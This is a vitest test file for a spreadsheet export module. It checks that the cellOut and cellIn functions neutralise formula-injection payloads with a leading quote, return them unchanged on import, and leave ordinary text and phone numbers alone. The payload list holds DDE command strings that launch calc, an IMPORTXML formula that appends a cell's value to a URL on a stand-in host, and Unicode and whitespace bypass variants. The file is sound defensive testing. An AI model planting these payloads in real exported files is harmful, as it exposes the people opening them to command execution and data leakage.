import { describe, expect, it } from 'vitest';
import { type Column, cellIn, cellOut } from './columns';

const text: Column = { name: 'name', holds: 'text', required: true };
const plain: Column = { name: 'phone', holds: 'plain', required: true };

/** What a spreadsheet runs, or would run with a little help. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.example","x")',
  '=IMPORTXML(CONCAT("http://a.example?v=",A1),"//a")',
  '=WEBSERVICE("http://a.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-SUM(A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tcmd',
  '\rcmd',
  ' =1+1',
  '  @SUM(1)',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=\u0000cmd',
];

describe('cells of an exported file', () => {
  it.each(payloads)('hold no formula, and come back as they were: %j', (value) => {
    const cell = cellOut(text, value);
    expect(cell.startsWith("'")).toBe(true);
    expect(cellIn(text, cell)).toBe(value);
    // A formula in a number’s place is no number.
    expect(cellOut(plain, value).startsWith("'")).toBe(true);
    expect(cellIn(plain, cellOut(plain, value))).toBe(value);
  });

  it.each(['', 'plain', "it's", "'quoted'", 'a=b', '1+1', 'x@y.example', 'Ż', "''", "'"])(
    'are left as they are otherwise: %j',
    (value) => {
      expect(cellOut(text, value)).toBe(value);
      expect(cellIn(text, value)).toBe(value);
    },
  );

  it.each(['-0.127', '+44 7987 654321', '-12', '+1', '51.5074', '0044 (0) 20-7946 0000'])(
    'keep numbers and phone numbers: %j',
    (value) => {
      expect(cellOut(plain, value)).toBe(value);
      expect(cellIn(plain, value)).toBe(value);
    },
  );
});
